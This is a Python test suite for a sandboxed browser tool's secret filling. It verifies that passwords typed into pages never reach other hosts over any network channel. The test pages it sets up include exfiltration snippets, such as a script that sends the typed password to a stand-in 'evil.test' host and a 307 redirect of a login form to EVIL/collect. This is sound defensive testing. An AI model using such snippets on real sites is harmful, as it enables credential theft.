"""While a secret is in a page nothing of the browser reaches another host, though the space's list has it; and what was
sent off once is not sent again later."""

from __future__ import annotations

import anyio
import pytest

from mcp_spaces.browser.secrets.filling import reaches
from mcp_spaces.errors import Denied, SpacesError, WrongState
from mcp_spaces.network.model import Target
from mcp_spaces.sandbox.port import Command
from mcp_spaces.vault.model import Bindings
from tests.browser.signing import APP, EVIL, HOSTS, SPACE, Rig
from tests.browser.site.records import holds
from tests.browser.site.server import HANDLERS
from tests.browser.site.wire import Answer, Request, redirect

pytestmark = pytest.mark.anyio

CHANNELS = (
    "fetch image beacon form redirect302 post307 websocket popup worker prefetch stun dns"
    " navigate frame style xhr eventsource ping keepalive".split()
)


async def heard_nothing(rig: Rig, told: str = "") -> None:
    """Not now, and not by what is still under way: whatever the browser asks for last would come after it. Neither did
    whoever reads `told`, the records or the network log, not even as a name that was asked for."""
    await rig.call("browser.navigate", url=f"{APP}/links100")
    assert rig.leaks() == [] and rig.site.reached("evil.test") == []
    assert rig.site.packets("stun") == [] and rig.site.packets("dns") == []
    texts = [told, rig.recorded(), (await rig.call("browser.network", limit=200)).model_dump_json()]
    assert not any(holds(text.encode(), rig.site.person.password) for text in texts)


async def test_evil_is_reached_when_no_secret_is_there(rig: Rig) -> None:
    """Otherwise nothing of the rest would mean anything."""
    shown = await rig.call("browser.navigate", url=f"{APP}/exfil?channel=fetch&when=input")
    ref = "e" + next(line for line in shown.changes.splitlines() if '"Password"' in line).split(" e")[1].split()[0]
    await rig.call("browser.fill", fields={ref: "typed-by-hand"})
    with anyio.fail_after(10):
        await rig.site.hit("evil.test", "/collect", holding="typed-by-hand")


@pytest.mark.parametrize("when", ["input", "submit"])
@pytest.mark.parametrize("channel", CHANNELS)
async def test_b05_b06_b07_n22_no_channel_reaches_another_host_while_a_secret_is_filled_in(
    rig: Rig, channel: str, when: str
) -> None:
    try:
        told = (await rig.login(f"/exfil?channel={channel}&when={when}")).model_dump_json()
    except WrongState as error:
        told = error.message + error.hint
        await rig.fresh()
    await heard_nothing(rig, told)


async def test_l06_a_host_that_a_page_made_up_of_the_secret_is_named_nowhere(rig: Rig) -> None:
    """The space's list has every name below evil.test, so that it is the fill that refuses this one."""
    mounts = {"network": {"mode": "allowlist", "allow": ["app.test", "evil.test", "*.evil.test"]}}
    await rig.govern("space.update", space=SPACE, patch={"mounts": mounts})
    await rig.fresh()
    try:
        answer = await rig.login("/exfil?channel=dns&when=input")
        assert answer.refused == ("another host:443",)
        await heard_nothing(rig, answer.model_dump_json())
    finally:
        mounts["network"]["allow"] = HOSTS
        await rig.govern("space.update", space=SPACE, patch={"mounts": mounts})


@pytest.mark.parametrize("page", ["/post307", "/post308", "/action-switch", "/moves-form"])
async def test_b05_a_form_that_is_led_elsewhere_takes_nothing_there_not_even_later(rig: Rig, page: str) -> None:
    try:
        answer = await rig.login(page)
    except WrongState:
        assert await rig.state() == "failed" and rig.leaks() == []
        return
    assert not answer.signed_in and answer.refused == ("evil.test:443",)
    for again in ("browser.reload", "browser.back", "browser.forward", "browser.reload"):
        try:
            await rig.call(again)
        except SpacesError:
            continue
    await heard_nothing(rig)


async def test_b05_a_page_that_was_posted_for_is_not_posted_for_again(rig: Rig) -> None:
    password = "wrong-password-77"
    assert not (await rig.login("/plain", secret=await rig.secret(password=password))).signed_in
    sent = len(rig.site.holding(password))
    await rig.call("browser.reload")
    assert sent == 1 and len(rig.site.holding(password)) == 1
    assert rig.site.hits("app.test")[-1].method == "GET"


async def test_b05_an_answer_that_comes_too_late_leads_nowhere(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """A site that takes its time and then sends the form on, when nobody waits for it any more."""
    monkeypatch.setattr("mcp_spaces.browser.secrets.filling.SUBMIT_S", 1.0)

    def late(backend: object, request: Request) -> Answer:
        return Answer(status=307, fields=[("Location", f"{EVIL}/collect")], delay_s=3)

    monkeypatch.setitem(HANDLERS, ("POST", "/plain"), late)
    answer = await rig.login("/plain")
    assert not answer.signed_in
    await anyio.sleep(3.5)
    await heard_nothing(rig)


async def test_l03_a_page_that_was_left_because_it_repeats_the_password_is_not_gone_back_to(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = f"<!doctype html><title>Echo</title><p>{rig.site.person.password}".encode()
    monkeypatch.setitem(HANDLERS, ("POST", "/plain"), lambda backend, request: Answer(page))
    await rig.login("/plain")
    (opened,) = rig.live.pages.values()
    for _ in range(3):
        await rig.call("browser.back")
        assert opened.page.url == "about:blank"


async def test_l04_a_page_that_does_not_say_what_it_shows_counts_as_the_one_that_a_secret_was_in(rig: Rig) -> None:
    await rig.login("/plain")
    (signed,) = rig.live.pages.values()
    await signed.page.evaluate("setTimeout(() => { for (;;) {} }, 0)")
    await rig.call("browser.open")
    refused = await rig.refusal("browser.evaluate", script="1")
    assert isinstance(refused, WrongState) and signed.id in refused.message


async def test_b13_what_was_filled_in_before_another_field_was_refused_is_taken_out_again(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page that hides the field for the code as soon as it has the password."""
    hides = "document.querySelector('[name=code]').style.visibility = 'hidden'"
    page = f"""<!doctype html><title>Sign in</title><form method=post action=/plain>
        <input name=username autocomplete=username>
        <input name=password type=password autocomplete=current-password oninput="{hides}">
        <input name=code autocomplete=one-time-code><button>Sign in</button></form>"""
    monkeypatch.setitem(HANDLERS, ("GET", "/hides-code"), lambda backend, request: Answer(page.encode()))
    refused = await rig.refusal("browser.login", secret=await rig.secret(code=True), url=f"{APP}/hides-code")
    assert isinstance(refused, WrongState) and "totp: it is not visible" in refused.message
    (opened,) = rig.live.pages.values()
    values = await opened.page.evaluate("[...document.querySelectorAll('input')].map(one => one.value)")
    assert values[0] == rig.site.person.name and values[1:] == ["", ""]
    assert await rig.state() == "active" and rig.site.holding(rig.site.person.password) == []


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_b07_an_address_that_a_page_made_is_not_gone_to_afterwards(
    rig: Rig, monkeypatch: pytest.MonkeyPatch, scheme: str
) -> None:
    """Not by path either, and not where the gateway answers a plain request with a page of its own."""
    leaving = f"""<!doctype html><title>Sign in</title><form method=post>
      <input name=user autocomplete=username><input name=password type=password><button>Sign in</button></form>
      <script>document.querySelector('[name=password]').addEventListener('input', event =>
        location.assign('{scheme}://evil.test/' + [...event.target.value].reverse().join('')))</script>"""
    monkeypatch.setitem(HANDLERS, ("GET", "/plain"), lambda *_: Answer(leaving.encode()))
    answer = await rig.login("/plain")
    assert not answer.signed_in
    monkeypatch.undo()
    await heard_nothing(rig)


async def test_what_the_secret_s_own_server_redirects_to_is_gone_to_when_the_secret_is_out(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A single sign-on: the browser is sent on to an application that the secret is not bound to."""
    there = "https://third.test/links100?ticket=1"
    monkeypatch.setitem(HANDLERS, ("POST", "/plain"), lambda *_: redirect(there))
    answer = await rig.login("/plain")
    assert answer.signed_in and answer.url == there
    assert rig.leaks() == []


@pytest.mark.parametrize("on", ["focus", "input", "click"])
async def test_b11_a_window_that_opens_during_the_fill_is_closed_and_loads_nothing(rig: Rig, on: str) -> None:
    answer = await rig.login(f"/opener?on={on}")
    assert answer.signed_in and answer.opened is None
    assert [one.page for one in (await rig.call("browser.pages")).pages] == ["p1"]
    assert rig.leaks() == [] and rig.site.reached("evil.test") == []


async def test_b20_a_page_leaves_no_service_worker_behind(rig: Rig) -> None:
    await rig.call("browser.navigate", url=f"{APP}/serviceworker")
    assert (await rig.login("/plain")).signed_in
    await rig.call("browser.navigate", url=f"{APP}/serviceworker")
    found = await rig.call(
        "browser.evaluate",
        script="navigator.serviceWorker ? navigator.serviceWorker.getRegistrations().then(all => all.length) : 0",
    )
    assert found.result == 0


async def test_b14_chromium_keeps_no_passwords_of_its_own(rig: Rig) -> None:
    assert (await rig.login("/plain")).signed_in
    await rig.call("browser.logout")
    shown = await rig.call("browser.navigate", url=f"{APP}/plain")
    assert '"Password" ' in shown.changes and "[filled]" not in shown.changes
    # Nor a store that it could keep them in: its folder is there, without one.
    found: list[bytes] = []
    sandbox = rig.live.live.host.sandbox  # type: ignore[attr-defined]
    look = Command(("find", ".profile", "-name", "Login Data*", "-o", "-name", "Local Storage"))
    process = await sandbox.start(look, output=lambda _stream, chunk: found.append(chunk))
    await process.wait()
    assert b"".join(found).decode().splitlines() == [".profile/Default/Local Storage"]


# ---------------------------------------------------------------------------------------- the gateway, narrowed


async def test_a_login_at_a_page_that_the_gateway_refuses_is_told_in_its_words(rig: Rig) -> None:
    with pytest.raises(Denied) as refused:
        await rig.login("https://elsewhere.test/plain")
    assert refused.value.rule == "network.allow" and "elsewhere.test:443" in refused.value.message


async def test_b07_narrowing_closes_what_is_open_and_ends_with_its_window(rig: Rig) -> None:
    await rig.call("browser.navigate", url=f"{EVIL}/plain")
    runtime = rig.row.id
    flows = rig.gateway._flows[runtime]
    assert {flow.target.host for flow in flows if flow.target} == {"evil.test"}
    async with rig.gateway.narrowed(runtime, lambda target: target.host == "app.test") as narrowed:
        assert not any(flow.target for flow in rig.gateway._flows.get(runtime, ()))
        rig.site.forget()
        with pytest.raises(Denied):
            await rig.call("browser.navigate", url=f"{EVIL}/plain")
        assert rig.site.connects() == [] and narrowed.refused == {"evil.test:443"}
        await rig.call("browser.navigate", url=f"{APP}/plain", new_page=True)
        with pytest.raises(WrongState):
            async with rig.gateway.narrowed(runtime, lambda _: True):
                pass
    await rig.call("browser.navigate", url=f"{EVIL}/plain", new_page=True)


async def test_b03_a_secret_of_an_https_origin_does_not_go_out_as_plain_text(rig: Rig) -> None:
    bindings = Bindings(
        origins=("https://app.test", "http://web.sandbox.internal:8080"), origin_patterns=("https://*.app.test",)
    )
    for target, expected in (
        (Target("app.test", 443, tunnel=True), True),
        (Target("login.app.test", 443, tunnel=True), True),
        (Target("app.test", 443), False),
        (Target("app.test", 80), False),
        (Target("app.test", 80, tunnel=True), False),
        (Target("app.test", 8443, tunnel=True), False),
        (Target("web.sandbox.internal", 8080), True),
        (Target("web.sandbox.internal", 80), False),
        (Target("other.sandbox.internal", 8080), False),
        (Target("evil.test", 443, tunnel=True), False),
    ):
        assert reaches(bindings, target) is expected, target
